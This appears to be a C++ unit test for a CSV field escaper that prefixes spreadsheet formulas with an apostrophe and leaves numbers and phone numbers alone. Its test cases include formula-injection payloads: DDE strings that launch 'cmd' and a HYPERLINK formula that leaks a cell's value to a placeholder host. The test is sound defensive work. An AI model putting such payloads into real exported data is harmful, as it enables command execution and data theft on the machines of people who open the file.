// CSV fields a spreadsheet opens: formulas from a backup are shown as text,
// numbers and phone numbers stay as they are, quoting follows RFC 4180.
#include "core/CsvField.h"

#include <gtest/gtest.h>

namespace orvelle {
namespace {

TEST(CsvField, FormulasAreShownAsTextNumbersAndPhonesStay) {
    const struct {
        const char* in;
        const char* out;
    } cases[] = {
        // Formulas and the forms spreadsheets take for one.
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\""},
        {"=1+1", "'=1+1"},
        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"-2+3", "'-2+3"},
        {"+A1", "'+A1"},
        {"- buy milk", "'- buy milk"},
        {"\t=1", "'\t=1"},
        {"\r=1", "\"'\r=1\""},
        {"+12025550199\n=1+1", "\"'+12025550199\n=1+1\""},
        // Plain numbers.
        {"-12", "-12"},
        {"3.5", "3.5"},
        {"-0.25", "-0.25"},
        {"+7", "+7"},
        {"-.5", "-.5"},
        {"-1e5", "-1e5"},
        // Phone numbers, one or a contact's list.
        {"+12025550199", "+12025550199"},
        {"+1 (202) 555-0199", "+1 (202) 555-0199"},
        {"+44.20.7946.0018", "+44.20.7946.0018"},
        {"+15550100\n+15550101", "\"+15550100\n+15550101\""},
        {"+15550100\r\n(202) 555-0143", "\"+15550100\r\n(202) 555-0143\""},
        // Ordinary text, a lone sign, the empty field.
        {"Ann Lee", "Ann Lee"},
        {"a=b", "a=b"},
        {"x@example.org", "x@example.org"},
        {"-", "-"},
        {"+", "+"},
        {"", ""},
        {"a,b", "\"a,b\""},
    };
    for (const auto& c : cases)
        EXPECT_EQ(csvField(c.in), c.out) << c.in;
}

} // namespace
} // namespace orvelle
